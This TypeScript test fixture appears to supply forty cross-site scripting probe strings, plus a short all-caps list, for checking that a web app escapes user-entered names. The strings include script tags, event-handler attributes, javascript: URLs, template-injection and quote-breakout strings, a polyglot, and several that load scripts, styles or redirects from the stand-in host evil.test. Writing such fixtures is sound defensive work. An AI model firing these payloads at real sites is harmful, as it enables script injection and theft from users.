/** The script in every string. If it runs, the page has executed a name. */
const RUN = 'window.__xss=1';
/** Finds elements that a text turned into, even if the policy prevents their script from running. */
export const XSS_ELEMENT = '[data-xss],xss';

/** Forty texts that are markup or script unless treated as text; each has at most 100 characters, like a last name. */
export const xssStrings: readonly string[] = [
  `<script data-xss>${RUN}</script>`,
  `<img data-xss src=x onerror=${RUN}>`,
  `"><img data-xss src=x onerror=${RUN}>`,
  `'><svg data-xss onload=${RUN}>`,
  `</script><script data-xss>${RUN}</script>`,
  `</title><img data-xss src=x onerror=${RUN}>`,
  `</textarea><svg data-xss onload=${RUN}>`,
  `--><img data-xss src=x onerror=${RUN}>`,
  `]]><img data-xss src=x onerror=${RUN}>`,
  `<iframe data-xss srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<iframe data-xss src="javascript:${RUN}"></iframe>`,
  `<a data-xss href="javascript:${RUN}">x</a>`,
  `<body data-xss onload=${RUN}>`,
  `<details data-xss open ontoggle=${RUN}>x</details>`,
  `<input data-xss autofocus onfocus=${RUN}>`,
  `<video data-xss src=x onerror=${RUN}></video>`,
  `<object data-xss data="javascript:${RUN}"></object>`,
  `<embed data-xss src="javascript:${RUN}">`,
  `<math><mtext></mtext><mglyph><style data-xss><img src=x onerror=${RUN}>`,
  `<svg data-xss><script>${RUN}</script></svg>`,
  `<svg data-xss><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<style data-xss>@import'//evil.test/x.css';</style>`,
  '<link data-xss rel=stylesheet href=//evil.test/x.css>',
  '<img data-xss src=//evil.test/x.png>',
  '<script data-xss src=//evil.test/x.js></script>',
  '<base data-xss href=//evil.test/>',
  '<meta data-xss http-equiv=refresh content="0;url=//evil.test/">',
  '<form data-xss action=//evil.test/><input name=a autofocus>',
  `<div data-xss style="background:url(//evil.test/x)">x</div>`,
  `javascript:${RUN}//`,
  `data:text/html,<script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\`;${RUN};//`,
  `&lt;img data-xss src=x onerror=${RUN}&gt;`,
  `\\u003cimg data-xss src=x onerror=${RUN}\\u003e`,
  `jaVasCript:/*'/*"/**/(/* */onerror=${RUN} )//</sCript><sVg/data-xss/oNloAd=${RUN}//>`,
];

/** The same kind of strings for program levels, which are short and in capitals. */
export const xssProgramLevels: readonly string[] = [
  '<IMG DATA-XSS SRC=X ONERROR=WINDOW.__XSS=1>',
  '"><SVG DATA-XSS ONLOAD=WINDOW.__XSS=1>',
  '<XSS ONFOCUS=WINDOW.__XSS=1 TABINDEX=1 AUTOFOCUS>',
  'JAVASCRIPT:WINDOW.__XSS=1//',
  '<SCRIPT DATA-XSS SRC=//EVIL.TEST/X></SCRIPT>',
  '../<B DATA-XSS>/..%2F?#',
];
